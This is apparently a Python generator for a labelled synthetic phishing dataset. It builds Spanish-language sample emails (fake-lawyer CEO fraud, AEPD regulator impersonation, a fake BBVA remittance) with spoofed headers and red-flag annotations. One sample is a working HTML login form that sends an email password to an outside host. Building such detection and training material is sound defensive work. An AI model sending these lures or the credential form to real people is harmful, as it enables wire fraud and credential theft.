                 what='"VERI*FACTU support" says the company lacks a compliance certificate; activate before 15 Dec',
                 why='Credential phishing exploiting Spain\'s e-invoicing reform: there is no "VERI*FACTU certificate" to activate; unknown sender via Brevo, fine threat, asks for Microsoft 365 credentials. The tax adviser\'s genuine newsletter explains the reform and warns against exactly this (business 29).',
                 technique='E-invoicing (VERI*FACTU) lure, bulk ESP (Brevo), M365 credential harvest',
                 pairs=['29-es-tax-adviser-newsletter-verifactu']))

    # ------------------------------------------------------------------ 29 es fake lawyer / CEO fraud
    iban = C.es_iban('0182', '7512', '0201587713')  # BBVA
    p = """Estimada Sra. Fernández:

Me pongo en contacto con usted por indicación de D. Jörg Hoffmann, Consejero Delegado de Example Group, en relación con la adquisición de una agencia de medios en Lisboa que nuestro despacho está asesorando (en adelante, «Proyecto Tajo»).

D. Jörg me ha confirmado que usted es la persona de confianza en la filial española para gestionar la parte operativa. Por razones de confidencialidad exigidas por el acuerdo de exclusividad con el vendedor, le ruego que no comente esta operación con nadie de la empresa, incluidos sus compañeros de Hamburgo, hasta el anuncio oficial previsto para el lunes 16.

Necesitamos realizar hoy una provisión de fondos de 96.400,00 € en concepto de depósito de garantía. Los datos de la cuenta de depósito del despacho son:

Titular: Garrido Vidal Abogados S.L.P. – Cuenta de clientes
Banco: BBVA
IBAN: %s
Concepto: Provisión Proyecto Tajo – EG

Le agradecería que me confirmase por esta misma vía la hora prevista de la transferencia y que me facilite su número de móvil, por si fuese necesario coordinar algún detalle con D. Jörg durante la tarde.

Atentamente,

Ignacio Garrido Vidal
Socio – Derecho Mercantil y M&A
Garrido Vidal Abogados
Paseo de la Castellana 93, 28046 Madrid
""" % C.grp(iban)
    out.append(M(name='29-es-fake-lawyer-confidential-acquisition', folder=A, lang='es', t=T(11, 11, 9, 15, 50),
                 mailer=I.postfix('mail.garridovidal-abogados.com', 'static.19.88.21.65.clients.your-server.de',
                                  '65.21.88.19', msgid='outlook16', boundary='nextpart', xmailer='Microsoft Outlook 16.0',
                                  hdr_charset='windows-1252', hdr_enc='Q', extra=[('Content-Language', 'es')]),
                 frm=('Ignacio Garrido Vidal', 'i.garrido@garridovidal-abogados.com'), to=[st('lucia.fernandez')],
                 rcpt='lucia.fernandez@example.com',
                 subject='Operación confidencial - instrucciones de D. Jörg Hoffmann',
                 body=alt(p, 'windows-1252', style='outlook', lang='ES'),
                 what='"Lawyer" says the CEO authorised a confidential acquisition and asks the Madrid accountant for EUR 96,400 today',
                 why='CEO fraud via fake lawyer: unknown law firm on a Hetzner server, invokes the CEO\'s authority, secrecy towards colleagues in Hamburg, same-day transfer to a "client account", asks for the mobile number to continue by phone.',
                 technique='Fake lawyer / CEO fraud (BEC), VPS-hosted look-alike law-firm domain',
                 pairs=['01-de-ceo-urgent-payment-internal']))

    # ------------------------------------------------------------------ 30 es data-protection regulator (AEPD) via SES
    url = 'https://sedeagpd-expedientes.es/EXP202611871?acceso=responsable'
    p = """AGENCIA ESPAÑOLA DE PROTECCIÓN DE DATOS
Subdirección General de Inspección de Datos

Expediente: EXP202611871
Responsable: EXAMPLE GROUP IBERIA S.L.

Muy señores nuestros:

Se ha recibido en esta Agencia una reclamación formulada por una persona interesada en relación con el envío de comunicaciones comerciales electrónicas sin consentimiento previo (art. 21 de la Ley 34/2002, LSSI) en el marco de la campaña de email marketing «Vendimia 2026», realizada por su entidad por cuenta de BODEGAS ARLANZA S.L.

De conformidad con el artículo 65.4 de la Ley Orgánica 3/2018 (LOPDGDD), se da traslado de la reclamación para que, en el plazo de un mes, remita a esta Agencia información sobre las medidas adoptadas. La falta de respuesta podrá dar lugar al inicio de un procedimiento sancionador.

La documentación completa del expediente está disponible en la sede electrónica. Para acceder, identifíquese con la cuenta corporativa del responsable del tratamiento:

Acceder al expediente: %s

Sede electrónica de la AEPD · C/ Jorge Juan, 6 · 28001 Madrid
""" % url
    out.append(M(name='30-es-data-protection-regulator-complaint', folder=A, lang='es', t=T(11, 30, 10, 25, 12),
                 mailer=I.ses(ip='54.240.7.44'),
                 frm=('Agencia Española de Protección de Datos', 'notificaciones@aepd-sedelectronica.es'),
                 to=[st('javier.martin')], rcpt='javier.martin@example.com',
                 subject='Traslado de reclamación - Expediente EXP202611871 (art. 65.4 LOPDGDD)',
                 body=alt(p),
                 what='"AEPD" forwards a GDPR/LSSI complaint about a client e-mail campaign; access the file online',
                 why='Regulator impersonation tailored to a marketing agency: look-alike aepd-sedelectronica.es via Amazon SES; the AEPD notifies through the official Sede/DEHú, not by e-mail with login links; asks for the corporate account to "identify" (credential harvest).',
                 technique='Regulator impersonation (data protection), credential phishing, Amazon SES',
                 pairs=[]))

    # ------------------------------------------------------------------ 31 es look-alike customer remittance (HTML attachment)
    form_url = 'https://justificantes-bbva-net.pages.dev/validar'
    p = """Buenos días Lucía:

Te adjunto el justificante de la transferencia correspondiente a la factura EG-ES-2026-0187 (campaña de Navidad), tal y como hablamos con Javier. El importe abonado es de 18.755,00 €, descontando el abono pendiente por la incidencia de la publicación.

El justificante está en formato protegido del banco; para abrirlo tendrás que identificarte con tu correo de la empresa.

Cualquier cosa me dices.

Un saludo,
Carmen Ruiz
Departamento de Compras y Marketing
Bodegas Arlanza S.L.
"""
    att = page('BBVA - Justificante de transferencia', """<div class="top">BBVA</div>
<div class="box"><h3>Justificante de transferencia protegido</h3>
<p>Ordenante: BODEGAS ARLANZA S.L.<br>Beneficiario: EXAMPLE GROUP IBERIA S.L.<br>Importe: 18.755,00 EUR</p>
<p>Para ver el documento, verifique su identidad con su cuenta de correo corporativo.</p>
<form method="post" action="%s">
<input type="email" name="u" value="lucia.fernandez@example.com">
<input type="password" name="p" placeholder="Contraseña del correo">
<button type="submit">Ver justificante</button></form></div>""" % esc(form_url),
               css="""body{margin:0;background:#f4f4f4;font-family:Arial,sans-serif}.top{background:#072146;color:#fff;font-size:26px;font-weight:bold;padding:14px 30px}
.box{width:420px;margin:50px auto;background:#fff;padding:28px}input{width:100%;padding:9px;margin:6px 0;box-sizing:border-box}
button{background:#1973b8;color:#fff;border:0;padding:10px;width:100%}""")
    out.append(M(name='31-es-lookalike-customer-remittance-html', folder=A, lang='es', t=T(12, 14, 8, 48, 5),
                 mailer=I.postfix('mail.bodegas-arlanza.es', 'srv702255.hstgr.cloud', '82.112.236.14',
                                  msgid='phpmailer', boundary='phpmailer',
                                  xmailer='PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'),
                 frm=('Carmen Ruiz', 'carmen.ruiz@bodegas-arlanza.es'), to=[st('lucia.fernandez')],
                 rcpt='lucia.fernandez@example.com',
                 subject='Justificante de transferencia - factura EG-ES-2026-0187',
                 body=multi('mixed', text(p, 'utf-8', 'quoted-printable'),
                            attachment('text/html', 'Justificante_Transferencia_BBVA_EG-ES-2026-0187.html',
                                       att.encode('utf-8'), ctparams=['charset="utf-8"'])),
                 what='Client "Bodegas Arlanza" sends a payment confirmation as a protected HTML file',
                 why='Look-alike customer domain bodegas-arlanza.es (real: bodegasarlanza.es, Google Workspace) on a Hostinger VPS; refers to the real invoice dispute (business 27), so the thread was probably read via an earlier compromise; the "bank receipt" is an HTML login form posting to pages.dev.',
                 technique='Fake remittance advice, HTML attachment credential form, look-alike customer domain',
                 pairs=['27-es-client-complaint-invoice-dispute']))
    return out
